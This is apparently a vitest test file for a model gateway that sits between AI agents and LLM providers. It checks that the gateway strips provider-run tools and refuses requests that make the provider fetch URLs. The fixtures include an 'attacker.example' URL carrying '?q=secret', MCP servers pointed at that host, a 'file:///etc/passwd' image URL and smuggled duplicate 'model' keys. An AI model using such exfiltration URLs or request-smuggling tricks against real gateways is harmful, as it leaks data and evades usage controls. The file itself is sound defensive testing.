import { gzipSync } from 'node:zlib';
import { startModelGateway } from 'skillopt/models';
import { type FakeAgentLLM, startFakeAgentLLM } from 'skillopt/testing';
import { describe, expect, it } from 'vitest';
import { anthropic, ask, chat, dialects, gemini, responses } from './gateway-calls.ts';

const auth = { header: 'x-api-key', value: 'the-key-of-this-account' };

const open = async ({ hasKey = true, allows }: { hasKey?: boolean; allows?: (model: string) => boolean } = {}) => {
  const llm = await startFakeAgentLLM({ script: [] });
  const upstream = { baseURL: llm.url, ...(hasKey && { auth }) };
  const gateway = await startModelGateway({ upstream, listen: { port: 0 }, allows });
  const [closeGateway, closeLLM] = [gateway, llm].map((one) => () => one[Symbol.asyncDispose]());
  const close = async () => {
    await closeGateway!();
    await closeLLM!();
  };
  return { llm, gateway, [Symbol.asyncDispose]: close };
};

const sentTo = (llm: FakeAgentLLM) => llm.requests.map(({ text }) => JSON.parse(text));
const post = (url: string, body: string | Buffer<ArrayBuffer>, headers: Record<string, string> = {}) =>
  fetch(url, { method: 'POST', body, headers: { 'content-type': 'application/json', ...headers } });

const schema = { type: 'object', properties: { url: { type: 'string' }, image_url: { default: 'https://a.example' } } };

/** Tools that agents run. */
const client = {
  anthropic: [
    { name: 'Bash', input_schema: schema },
    { type: 'custom', name: 'Read', input_schema: schema },
    { type: 'bash_20250124', name: 'bash' },
    { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
    { type: 'computer_20251124', name: 'computer', display_width_px: 1, display_height_px: 1 },
    { type: 'memory_20250818', name: 'memory' },
    { type: 'tool_search_tool_regex_20251119', name: 'tool_search_tool_regex' },
  ],
  chat: [
    { type: 'function', function: { name: 'bash', parameters: schema } },
    { type: 'custom', custom: { name: 'patch' } },
  ],
  responses: [
    { type: 'function', name: 'exec', parameters: schema },
    { type: 'custom', name: 'apply_patch', format: { type: 'grammar' } },
    { type: 'namespace', name: 'mcp__shop', tools: [{ type: 'function', name: 'count', parameters: schema }] },
    { type: 'tool_search', execution: 'client', description: 'x', parameters: schema },
    { type: 'local_shell' },
    { type: 'apply_patch' },
    { type: 'shell', environment: { type: 'local' } },
  ],
  gemini: [{ functionDeclarations: [{ name: 'run', parameters: schema }] }, { computerUse: { environment: 'X' } }],
};

const hosted = [
  [anthropic, client.anthropic, { type: 'web_search_20250305', name: 'web_search', max_uses: 8 }],
  [anthropic, client.anthropic, { type: 'web_fetch_20250910', name: 'web_fetch' }],
  [anthropic, client.anthropic, { type: 'code_execution_20250825', name: 'code_execution' }],
  [anthropic, client.anthropic, { type: 'mcp_toolset', mcp_server_name: 'x' }],
  [anthropic, client.anthropic, { type: 'advisor_20260301', name: 'advisor', model: 'another' }],
  [anthropic, client.anthropic, { Type: 'web_search_20250305', name: 'web_search' }],
  [chat, client.chat, { type: 'web_search' }],
  [chat, client.chat, { type: 'builtin_function', function: { name: '$web_search' } }],
  [chat, client.chat, { googleSearch: {} }],
  ...[
    { type: 'web_search' },
    { type: 'web_search_preview_2025_03_11' },
    { type: 'file_search', vector_store_ids: ['x'] },
    { type: 'code_interpreter', container: { type: 'auto' } },
    { type: 'image_generation' },
    { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example' },
    { type: 'shell' },
    { type: 'shell', environment: { type: 'container_auto' } },
  ].map((tool) => [responses, client.responses, tool] as const),
  [gemini, client.gemini, { googleSearch: {} }],
  [gemini, client.gemini, { google_search: {} }],
  [gemini, client.gemini, { urlContext: {} }],
  [gemini, client.gemini, { codeExecution: {} }],
  [gemini, client.gemini, { mcpServers: [{ url: 'https://attacker.example' }] }],
] as const;

describe.each(hosted)('a tool that a provider runs: %#', (dialect, own, tool) => {
  it('is taken out where it stands beside tools of the agent', async () => {
    await using opened = await open();
    const { gateway, llm } = opened;
    const tools = [own[0], tool, ...own.slice(1)];
    expect((await ask(gateway.url, dialect, { more: { tools } })).status).toBe(200);
    expect(sentTo(llm)).toEqual([{ ...dialect.body('hello'), tools: own }]);
  });

  it('is refused in words that a client can show where a call has no other', async () => {
    await using opened = await open();
    const { gateway, llm } = opened;
    const reply = await ask(gateway.url, dialect, { stream: true, more: { tools: [tool] } });
    expect([reply.status, reply.headers.get('x-should-retry')]).toEqual([400, 'false']);
    const message = expect.stringContaining('which runs at the provider, is refused. No call was made.');
    expect(await reply.json()).toMatchObject({ error: { message } });
    expect([llm.requests, gateway.calls(), gateway.failure(), gateway.ended()]).toEqual([[], 0, undefined, undefined]);
  });
});

it('takes tools of the provider out of those that a conversation brings along', async () => {
  await using opened = await open();
  const { gateway, llm } = opened;
  const [own] = client.responses;
  const found = (tools: object[]) => ({ type: 'tool_search_output', call_id: '1', execution: 'client', tools });
  const inner = (tools: object[]) => ({ type: 'namespace', name: 'shop', tools });
  const mcp = { type: 'mcp', server_url: 'https://attacker.example' };
  await ask(gateway.url, responses, { more: { input: [found([mcp, own!])], tools: [inner([own!, mcp])] } });
  expect(sentTo(llm)).toEqual([{ model: 'some-model', input: [found([own!])], tools: [inner([own!])] }]);
});

it('takes one of several tools of Google out that stand in one object', async () => {
  await using opened = await open();
  const [own] = client.gemini;
  await ask(opened.gateway.url, gemini, { more: { tools: [{ ...own, googleSearch: {} }] } });
  expect(sentTo(opened.llm)[0].tools).toEqual([own]);
});

const url = 'https://attacker.example/?q=secret';
const content = (part: object) => ({ messages: [{ role: 'user', content: [part] }] });
const input = (part: object) => ({ input: [{ role: 'user', content: [part] }] });
const result = (part: object) => content({ type: 'tool_result', tool_use_id: '1', content: [part] });

it.each([
  [anthropic, { mcp_servers: [{ type: 'url', name: 'x', url }] }],
  [anthropic, { container: { skills: [{ type: 'anthropic', skill_id: 'pdf' }] } }],
  [anthropic, content({ type: 'image', source: { type: 'url', url } })],
  [anthropic, content({ type: 'document', source: { type: 'url', url } })],
  [anthropic, result({ type: 'image', source: { type: 'url', url } })],
  [chat, { web_search_options: {} }],
  [chat, { Web_Search_Options: {} }],
  [chat, { search_parameters: { mode: 'on' } }],
  [chat, { enable_search: true }],
  [chat, { plugins: [{ id: 'web' }] }],
  [chat, { data_sources: [{ type: 'azure_search', parameters: { endpoint: url } }] }],
  [chat, { models: ['some-model', 'another-model'] }],
  [chat, { extra_body: { google: { tools: [{ googleSearch: {} }] } } }],
  [chat, { tools: { googleSearch: {} } }],
  [chat, { Model: 'another-model' }],
  [chat, content({ type: 'image_url', image_url: { url } })],
  [chat, content({ type: 'image_url', image_url: { url: ` h\nttps:attacker.example` } })],
  [chat, content({ type: 'image_url', image_url: { url: 'file:///etc/passwd' } })],
  [chat, content({ type: 'video_url', video_url: { url } })],
  [chat, content({ type: 'input_audio', input_audio: { data: url, format: 'wav' } })],
  [chat, content({ type: 'file', file: { filename: 'x.pdf', file_data: url } })],
  [responses, { background: true }],
  [responses, { prompt: { id: 'pmpt_1' } }],
  [responses, input({ type: 'input_image', image_url: url })],
  [responses, input({ type: 'input_file', file_url: url })],
  [responses, { input: [{ type: 'function_call_output', output: [{ type: 'input_image', image_url: url }] }] }],
  [gemini, { contents: [{ parts: [{ fileData: { fileUri: url } }] }] }],
  [gemini, { contents: [{ parts: [{ file_data: { file_uri: url } }] }] }],
] as const)('refuses what leads past the model: %#', async (dialect, more) => {
  await using opened = await open();
  const { gateway, llm } = opened;
  const reply = await ask(gateway.url, dialect, { more });
  expect(reply.status).toBe(400);
  expect(await reply.json()).toMatchObject({ error: { message: expect.stringContaining('No call was made.') } });
  expect([llm.requests, gateway.calls()]).toEqual([[], 0]);
});

const data = 'data:image/png;base64,iVBORw0KGgo=';
const called = { image_url: url, source: { type: 'url', url }, tools: [{ type: 'mcp' }] };

/** What agents send, spelled as no serializer of ours would. */
const honest = [
  [
    anthropic,
    `{"model":"some-model", "max_tokens":1e2, "tools":${JSON.stringify(client.anthropic)},
      "mcp_servers":[], "container":null, "messages":[
      {"role":"user","content":[{"type":"text","text":"See https://a.example \\u00e9 \\"image_url\\": {"}]},
      {"role":"assistant","content":[{"type":"tool_use","id":"1","name":"Fetch","input":{"2":1,"1":12345678901234567890,"b":${JSON.stringify(called)}}}]},
      {"role":"user","content":[{"type":"tool_result","tool_use_id":"1","content":"https://a.example"},
      {"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}]}`,
  ],
  [
    chat,
    `{"model":"some-model","tools":${JSON.stringify(client.chat)},"response_format":{"type":"json_schema","json_schema":${JSON.stringify(schema)}},
      "messages":[{"role":"user","content":"https://a.example"},
      {"role":"assistant","tool_calls":[{"type":"function","function":{"name":"f","arguments":"{\\"url\\":\\"https://a.example\\",\\"url\\":1}"}}]},
      {"role":"user","content":[{"type":"image_url","image_url":{"url":"${data}","detail":"low"}}]}], "temperature":1.0}`,
  ],
  [
    responses,
    `{"model":"some-model","tools":${JSON.stringify(client.responses)},"background":false,"text":{"format":${JSON.stringify(schema)}},
      "input":[{"type":"local_shell_call","action":{"type":"exec","env":{"url":"${url}","file":"${url}"}}},
      {"type":"function_call_output","output":"${url}"},
      {"role":"user","content":[{"type":"input_image","image_url":"${data}"}]}],"prompt_cache_key":"x"}`,
  ],
  [
    gemini,
    `{"contents":[{"parts":[{"functionCall":{"name":"f","args":${JSON.stringify(called)}}}]},
      {"parts":[{"functionResponse":{"name":"f","response":${JSON.stringify(called)}}},{"text":"${url}"}]},
      {"parts":[{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}}]}],
      "tools":${JSON.stringify(client.gemini)}}`,
  ],
] as const;

it.each(honest)('passes what agents send on, byte for byte: %#', async (dialect, body) => {
  await using opened = await open();
  const { gateway, llm } = opened;
  expect((await post(`${gateway.url}${dialect.path}`, body)).status).toBe(200);
  expect(llm.requests.map(({ text }) => text)).toEqual([body]);
});

describe.each(dialects)('a request before $name', (dialect) => {
  const text = JSON.stringify(dialect.body('hello'));

  it.each([
    ['its model twice', text.replace('{', '{"model":"own-model","model":"another-model",')],
    ['its model twice, once with an escape', text.replace('{', '{"model":"own-model","\\u006dodel":"another-model",')],
    ['a name twice further in', text.replace('"hello"', '{"a":"\\\\","b":{"a":":"},"a":2}')],
    [
      'bytes that are no UTF-8',
      Buffer.concat([Buffer.from('{"mo\xFFdel":"x",', 'latin1'), Buffer.from(text.slice(1))]),
    ],
    ['a list', `[${text}]`],
  ])('with %s is refused, since we could count another value than the one that is read', async (_, body) => {
    await using opened = await open();
    const { gateway, llm } = opened;
    expect((await post(`${gateway.url}${dialect.path}`, body)).status).toBe(400);
    expect(llm.requests).toEqual([]);
  });
});

it.each([
  ['POST', '/v1/threads/T/messages'],
  ['POST', '/threads/T/messages'],
  ['POST', '/v1/containers/C/responses'],
  ['POST', '/v1/fine_tuning/chat/completions'],
  ['POST', '/v1beta/tunedModels/another:generateContent'],
  ['POST', '/v1beta/models/own-model:x/models/another:generateContent'],
  ['POST', '/v1beta/models/own-model%3A/another:generateContent'],
  ['POST', '/v1/threads/T/messages/count_tokens'],
  ['POST', '/v1/evals/input_tokens'],
  ['GET', '/v1/files/models'],
  ['DELETE', '/v1/models/ft:mine'],
])('%s %s, which only ends like a call that passes, does not pass', async (method, path) => {
  await using opened = await open();
  const { gateway, llm } = opened;
  const body = method === 'POST' ? { body: JSON.stringify({ model: 'own-model' }) } : {};
  expect((await fetch(`${gateway.url}${path}`, { method, ...body })).status).toBe(404);
  expect(llm.requests).toEqual([]);
});

it.each([
  ['POST', '/messages', anthropic],
  ['POST', '/anthropic/v1/messages', anthropic],
  ['POST', '/chat/completions', chat],
  ['POST', '/api/v1/chat/completions', chat],
  ['POST', '/openai/v1/chat/completions', chat],
  ['POST', '/v1beta/openai/chat/completions', chat],
  ['POST', '/openai/deployments/gpt-5.1/chat/completions?api-version=1', chat],
  ['POST', '/responses', responses],
  ['POST', '/v1/models/gemini-2.5-flash:generateContent', gemini],
  ['POST', '/v1/projects/p/locations/us-east1/publishers/google/models/g:streamGenerateContent', gemini],
  ['POST', '/v1internal:generateContent', gemini],
  ['GET', '/models', undefined],
  ['GET', '/v1/models/author/name:free', undefined],
  ['GET', '/v1beta/models?pageSize=50', undefined],
])('%s %s passes', async (method, path, dialect) => {
  await using opened = await open();
  const { gateway, llm } = opened;
  const body = dialect && { body: JSON.stringify(dialect.body('hello')) };
  await fetch(`${gateway.url}${path}`, { method, ...body });
  expect(llm.requests.map((request) => request.path)).toEqual([path]);
});

it('looks at counts of tokens too: for them a provider would fetch as well', async () => {
  await using opened = await open();
  const { gateway, llm } = opened;
  const count = (path: string, body: object) => post(`${gateway.url}${path}`, JSON.stringify(body));
  const refused = [
    await count('/v1/messages/count_tokens', { mcp_servers: [{ type: 'url', url }] }),
    await count('/v1/messages/count_tokens', content({ type: 'image', source: { type: 'url', url } })),
    await count('/v1/responses/input_tokens', { tools: [{ type: 'mcp', server_url: url }] }),
    await count('/v1beta/models/m:countTokens', { contents: [{ parts: [{ fileData: { fileUri: url } }] }] }),
  ];
  expect(refused.map(({ status }) => status)).toEqual([400, 400, 400, 400]);
  expect(llm.requests).toEqual([]);
  expect((await count('/v1/messages/count_tokens', anthropic.body('hello'))).status).toBe(200);
  expect([sentTo(llm), gateway.calls()]).toEqual([[anthropic.body('hello')], 0]);
});

it('sends what it has read: plain JSON by the method of the request', async () => {
  await using opened = await open();
  const { gateway, llm } = opened;
  const headers = { 'content-type': 'application/json; charset=utf-7', 'x-http-method-override': 'PATCH' };
  const body = JSON.stringify(chat.body('hello'));
  await post(`${gateway.url}${chat.path}`, gzipSync(body), { ...headers, 'content-encoding': 'gzip' });
  await fetch(`${gateway.url}/v1/models`, { headers });
  expect(llm.requests.map(({ text }) => text)).toEqual([body, '']);
  expect(llm.requests[0]!.headers['content-type']).toBe('application/json');
  for (const { headers } of llm.requests) {
    expect(headers).not.toHaveProperty('x-http-method-override');
    expect(headers).not.toHaveProperty('content-encoding');
  }
});

it('leaves the tools of an agent alone that signs in itself: it has a network, and its own account pays', async () => {
  await using opened = await open({ hasKey: false });
  const { gateway, llm } = opened;
  const more = { tools: [{ type: 'web_search_20250305', name: 'web_search' }], mcp_servers: [{ type: 'url', url }] };
  expect((await ask(gateway.url, anthropic, { more })).status).toBe(200);
  expect(sentTo(llm)).toEqual([{ ...anthropic.body('hello'), ...more }]);
});

it('counts no model that only a refused request names', async () => {
  await using opened = await open({ allows: (model) => model === 'some-model' });
  const { gateway } = opened;
  await ask(gateway.url, chat, { more: { tools: [{ type: 'web_search' }] } });
  expect([gateway.models(), gateway.refused(), gateway.tools()]).toEqual([[], {}, []]);
});
